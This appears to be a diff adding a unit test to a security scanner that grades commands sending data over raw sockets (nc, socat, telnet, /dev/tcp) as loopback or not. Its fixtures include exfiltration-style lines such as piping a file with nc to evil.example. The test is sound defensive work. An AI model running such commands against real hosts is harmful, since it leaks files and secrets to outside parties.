@@ -272,6 +272,15 @@ describe("a secret sent to its own vendor's site is a warning", () => {
   });
 });
 
+describe("a raw socket to this machine is a warning", () => {
+  it("every tool on the line must name a loopback host", async () => {
+    const { toLoopback } = await import("../src/scan/grade.js");
+    for (const t of ["nc localhost 8080 < f.txt", "cat f | nc -q0 127.0.0.1 80", "cat f | socat - TCP:localhost:80", "cat f | nc 0.0.0.0 1", "cat f | nc ::1 80", "telnet localhost 25 < s.txt"]) expect(toLoopback(t, 0), t).toBe(true);
+    for (const t of ["nc evil.example 80 < f.txt", "nc localhost.evil.example 80 < f", "cat f | nc 127.0.0.2 80", "cat f | nc localhost 80 && cat f | nc evil.example 80", "cat f > /dev/tcp/localhost/80"]) expect(toLoopback(t, 0), t).toBe(false);
+    expect(pa.scanner.scan("nc localhost 8080 < fixtures/request.http", { scope: "context" }).map((f) => `${f.rule}:${f.severity}`)).toEqual(["raw-socket-exfil:low"]);
+  });
+});
+
 describe("an action word after a determiner and one more word is a noun", () => {
   it("'for a single run' is no action; 'and run the deploy' is", () => {
     expect(hasAction("The flag lets you override the system prompt for a single run.")).toBe(false);
